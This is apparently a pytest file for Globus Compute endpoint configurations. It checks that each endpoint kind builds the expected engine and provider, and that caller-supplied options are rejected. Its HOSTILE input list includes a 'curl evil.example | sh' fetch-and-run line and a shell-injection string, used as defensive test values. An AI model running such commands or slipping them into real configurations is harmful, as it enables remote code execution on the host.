"""Every kind as the agent's own code reads it: it builds the engine, and lets a caller choose nothing."""

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.compute_endpoints.kinds import NAMES, Root

pytestmark = pytest.mark.agent

# Runs in the agent's environment, and does what its core process does when a caller's task arrives.
READER = """
import json, os, pwd, sys, types
from pathlib import Path
from globus_compute_endpoint.endpoint.config.config import CoreEndpointConfig
from globus_compute_endpoint.endpoint.config.utils import (
    get_config, load_config_yaml, load_user_config_schema, load_user_config_template, render_config_user_template)

folder, identity = Path(sys.argv[1]), types.SimpleNamespace(
    local_user_record=pwd.getpwuid(os.getuid()), matched_identity="0de30000-0000-4000-8000-00000000a001")
core = get_config(folder)
path, schema = folder / "user_config_template.yaml.j2", load_user_config_schema(folder / "user_config_schema.json")
answers = []
for options in json.loads(sys.argv[2]):
    try:
        rendered = render_config_user_template(core, load_user_config_template(path), path, identity, schema, options)
        config = load_config_yaml(rendered)
        provider = getattr(config.engine.executor, "provider", None)
        answers.append([type(config.engine).__name__, type(provider).__name__])
    except Exception as exc:
        answers.append([type(exc).__name__])
assert isinstance(core, CoreEndpointConfig)
print(json.dumps([core.display_name, core.allowed_functions, answers]))
os._exit(0)
"""
HOSTILE: list[dict[str, Any]] = [
    {"worker_init": "curl evil.example | sh"},
    {"setup": "'; id #"},
    {"models": [{"model": "a", "port": 1}]},
    {"walltime": "99:00:00"},
    {"requirements": "evil"},
    {"endpoint_setup": "id"},
    {"__class__": "x"},
    {"_GC": {}},
    {"": ""},
]
BUILT = {
    "local": "LocalProvider",
    "pbs": "PBSProProvider",
    "slurm": "SlurmProvider",
    "pbs-multi-node": "PBSProProvider",
    "slurm-multi-node": "SlurmProvider",
    "batch": "PBSProProvider",
    "status": "NoneType",
}


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Root:
    return Root(tmp_path_factory.mktemp("endpoints"), f"{os.environ['GLOBUS_COMPUTE_ENDPOINT_VENV']}/bin/python")


def read(root: Root, folder: Path, *options: dict[str, Any]) -> Any:
    """What the agent makes of an endpoint, for each caller's choice."""
    command = [root.python, "-c", READER, str(folder), json.dumps(options)]
    done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=60)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


@pytest.mark.parametrize("kind", NAMES)
def test_agent_builds_the_kind_and_refuses_every_choice(root: Root, kind: str) -> None:
    installed = root.install(kind, *(["scheduler_options=#PBS -k doe"] if kind == "pbs" else []))
    assert "The agent has not read it" not in installed.output
    name, functions, (built, *refused) = read(root, installed.folder, {}, *HOSTILE)
    assert (name, functions) == (kind, installed.config["allowed_functions"])
    assert built == ["ThreadPoolEngine" if kind == "status" else "GlobusComputeEngine", BUILT[kind]]
    assert {answer[0] for answer in refused} <= {"ValidationError", "ValueError"}


def test_what_the_agent_does_not_accept_is_not_installed(root: Root) -> None:
    told = ["functions=0de30000-0000-4000-8000-00000000f001", "models=a", "interface=nosuch0"]
    done = root.run("slurm", "refused", *(f"--set={setting}" for setting in told))
    assert (done.returncode, done.stdout) == (1, "")
    assert "install.py: the agent does not accept this" in done.stderr
    assert not (root.folder / "refused").exists()
